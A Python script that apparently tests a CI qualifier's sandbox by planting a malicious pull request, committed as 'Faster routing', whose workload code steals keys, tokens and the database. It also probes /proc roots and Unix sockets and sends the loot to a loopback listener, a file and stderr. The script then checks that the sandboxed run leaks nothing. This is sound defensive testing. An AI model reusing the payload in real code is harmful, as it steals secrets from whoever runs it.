"""A pull request that attacks its qualifier, run end to end: what reached the attacker.

The pull request (PR 2 of the example repository: PR 1's head plus the lines
below at the end of ``model/workload.py``) reads, at import and in ``setup()``,
every key, the token and the database it can find and reports them through a
file outside its scratch folder, a loopback socket and its own progress lines.
``ledger qualify --pr 2`` runs it sandboxed; the same claim once more with
``--sandbox none`` is the control that shows the attack works where nothing
stops it. The report (JSON on stdout, and ``--out``) says what arrived where;
exit 0 only when nothing secret arrived from the sandboxed run, the claims
passed, and the control did reach the secrets.

    python -m scripts.device.sandbox_attack --out DIR [--device cuda]

``tests/ledger/sandbox/test_sandbox_attack.py`` runs the same attack on CPU in-process.
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import git

from scripts.example_repo import make_example_repo

__all__ = [
    "ATTACK",
    "CLAIMS",
    "NOT_SECRET",
    "PG_SOCKETS",
    "Listener",
    "attacking_pr",
    "main",
    "stolen",
]

NOT_SECRET = ("LEDGER_RUN_ID", "LEDGER_FORK_SERVERS", "LEDGER_CLAIM_PLACER")
"""The ledger's variables a sandboxed process sees: a random marker, the run's own
fork-server sockets and the placer's socket in a forked claim's own folder, no secret
(docs/security.md)."""

PG_SOCKETS = ("/run/postgresql/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432")
"""Where PostgreSQL's Unix socket is on Debian hosts: the attack tries to connect."""

CLAIMS = ("regression.24view-nograd", "cleanup.all-released", "numerics.gradient-compare")

ATTACK = """

# --- what the pull request adds: an attack on whoever runs it ---------------
import glob as _glob
import os as _os
import socket as _socket
import sys as _sys

_LOOT = {loot!r}
_DB = {db!r}
_OUT = {out!r}
_PORT = {port}
_SOCKETS = {sockets!r}


def _steal(where):
    loot = []
    # The host's root through any process this one can see (its bubblewrap parent,
    # the qualifier): /proc/<pid>/root and /proc/<pid>/cwd.
    walked = [
        "/proc/" + pid + via + pattern
        for pid in _os.listdir("/proc")
        if pid.isdigit()
        for via in ("/root", "/cwd/..")
        for pattern in _LOOT
    ]
    seen = set()
    for pattern in list(_LOOT) + walked:
        for f in _glob.glob(pattern):
            try:
                st = _os.stat(f)
            except OSError:
                continue
            if (st.st_dev, st.st_ino) in seen:
                continue  # the same file through another process's root: read once
            seen.add((st.st_dev, st.st_ino))
            try:
                with open(f, "rb") as fh:
                    loot.append(fh.read().decode("latin-1"))
            except OSError:
                pass
    loot += [k + "=" + v for k, v in _os.environ.items() if k.startswith("LEDGER_")]
    loot += [k + "=" + v for k, v in _os.environ.items() if "TOKEN" in k]
    try:
        with open(_DB, "r+b"):
            loot.append("database-writable")
    except OSError:
        pass
    for path in _SOCKETS:  # the host's Unix sockets: PostgreSQL's, one of the qualifier's
        try:
            with _socket.socket(_socket.AF_UNIX) as u:
                u.connect(path)
                loot.append("unix-connected:" + path)
        except OSError:
            pass
    text = "|".join(loot)
    tag = where + ":" + _os.path.basename(_sys.argv[0] or "python") + ":" + str(_os.getpid())
    try:
        with open(_os.path.join(_OUT, tag), "w") as fh:
            fh.write(text)
    except OSError:
        pass
    try:
        with _socket.create_connection(("127.0.0.1", _PORT), timeout=2) as s:
            s.sendall(text.encode())
    except OSError:
        pass
    print(
        "\\x1eprogress attack " + tag + " stole " + str(len(loot)) + " " + text.replace("\\n", " "),
        file=_sys.stderr,
        flush=True,
    )


_steal("import")


_FORWARDS = []


class _Attacking(MoEWorkload):
    def setup(self, *args, **kwargs):
        _steal("setup")
        super().setup(*args, **kwargs)

    def forward(self, *args, **kwargs):
        # Once per process: code that runs in every claim and arm, however the
        # workload was set up (a fork server may have built it once for all).
        if not _FORWARDS:
            _FORWARDS.append(1)
            _steal("forward")
        return super().forward(*args, **kwargs)


def make_workload(**params):
    return _Attacking(MoEConfig(**params))
"""


class Listener:
    """A loopback server that keeps whatever reaches it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port: int = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                chunks = []
                while data := conn.recv(65536):
                    chunks.append(data)
                self.received.append(b"".join(chunks))

    def close(self) -> None:
        self.sock.close()


def attacking_pr(repo_path: Path, attack: str) -> str:
    """Publish PR 2 (PR 1's head plus ``attack`` at the end of the workload module)
    on the example repository's remote; its commit id."""
    repo = git.Repo(repo_path)
    repo.git.fetch("origin", "refs/pull/1/head")
    repo.git.checkout("--detach", "FETCH_HEAD")
    wl = repo_path / "model" / "workload.py"
    wl.write_text(wl.read_text() + attack)
    repo.index.add(["model/workload.py"])
    sha = repo.index.commit("Faster routing").hexsha
    repo.git.push("origin", f"{sha}:refs/pull/2/head")
    repo.git.checkout("main")
    return sha


def stolen(stderr: str) -> list[str]:
    """What the attack's progress lines say it took, less the variables that are no
    secret (`NOT_SECRET`)."""
    out: list[str] = []
    for line in stderr.splitlines():
        head, sep, rest = line.partition(" stole ")
        if "attack " not in head or not sep:
            continue
        text = rest.partition(" ")[2]
        out += [
            x[:80] for x in text.split("|") if x.strip() and x.split("=", 1)[0] not in NOT_SECRET
        ]
    return out


def _ledger(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ledger", *args], env=env, capture_output=True, text=True
    )


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, required=True, help="Folder for the report and logs.")
    ap.add_argument("--device", default="auto")
    a = ap.parse_args(argv)
    out: Path = a.out
    out.mkdir(parents=True, exist_ok=True)
    work = Path(os.environ.get("TMPDIR", "/tmp")) / f"ledger-attack-{secrets.token_hex(4)}"
    work.mkdir()
    keys, db, exfil = work / "keys", work / "ledger.db", work / "exfil"
    exfil.mkdir()
    token = "tok-" + secrets.token_hex(16)
    env = {**os.environ, "LEDGER_DB": str(db), "LEDGER_KEYS": str(keys), "LEDGER_TOKEN": token}
    for args in (("init",), ("keys", "new", "runner", "--role", "runner")):
        done = _ledger(env, *args)
        if done.returncode != 0:
            print(done.stderr, file=sys.stderr)
            return 2
    repo = make_example_repo(work / "repo").path
    listener = Listener()
    loot = [f"{keys}/*.pem", str(db), f"{Path.home()}/.config/ledger/keys/*.pem"]
    sockets = [p for p in PG_SOCKETS if os.path.exists(p)]
    attack = ATTACK.format(
        loot=loot, db=str(db), out=str(exfil), port=listener.port, sockets=sockets
    )
    attacking_pr(repo, attack)
    needles = [p.read_text().splitlines()[1] for p in sorted(keys.glob("*.pem"))]
    needles += [token, "SQLite format 3"]
    claims = [x for c in CLAIMS for x in ("--claim", c)]
    base = ("qualify", "--pr", "2", "--repo", str(repo), "--device", a.device)
    boxed = _ledger(env, *base, *claims, "--json")
    (out / "qualify.log").write_text(boxed.stderr)
    doc: dict[str, Any] = json.loads(boxed.stdout) if boxed.stdout.strip() else {}
    receipts = doc.get("receipts", [])
    shown = [_ledger(env, "show", r["id"], "--json").stdout for r in receipts]
    arrived_files = sorted(p.name for p in exfil.iterdir())
    arrived_socket = len(listener.received)
    texts = [boxed.stdout, boxed.stderr, *shown]
    leaked = sorted({i for i, n in enumerate(needles) for t in texts if n in t})
    scopes = [json.loads(s)["statement"]["predicate"]["scope"] for s in shown if s.strip()]
    control = _ledger(env, *base, "--claim", "numerics.gradient-compare", "--sandbox", "none")
    (out / "control.log").write_text(control.stderr)
    reached = sorted(p.name for p in exfil.iterdir() if token in p.read_text())
    listener.close()
    report = {
        "device": a.device,
        "qualify_exit": boxed.returncode,
        "outcomes": {r["claim"]: r["outcome"] for r in receipts},
        "sandbox": sorted({str(s.get("sandbox")) for s in scopes}),
        "network": sorted({str(s.get("network")) for s in scopes}),
        "device_kind": sorted({str(s.get("device_kind")) for s in scopes}),
        "attack_ran": [
            line.strip()[:160] for line in boxed.stderr.splitlines() if " attack " in line
        ],
        "stolen": stolen(boxed.stderr),
        "exfil_files_from_sandboxed_run": arrived_files,
        "socket_connections_from_sandboxed_run": arrived_socket,
        "secrets_found_in_output_or_receipts": leaked,
        "control_reached_secrets_from": reached,
        "control_socket_received_token": any(token.encode() in r for r in listener.received),
    }
    ok = (
        # Three of the plan's claims ran: the exit status is the whole plan's (1).
        boxed.returncode in (0, 1)
        and report["outcomes"]
        and all(o == "passed" for o in report["outcomes"].values())
        and report["sandbox"] == ["bwrap"]
        and not report["stolen"]
        and report["attack_ran"]
        and not arrived_files
        and arrived_socket == 0
        and not leaked
        and any("grad_arm" in r for r in reached)
        and report["control_socket_received_token"]
    )
    report["ok"] = bool(ok)
    shutil.rmtree(work, ignore_errors=True)  # the run's private keys go with it
    text = json.dumps(report, indent=2)
    (out / "attack.json").write_text(text + "\n")
    print(text)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
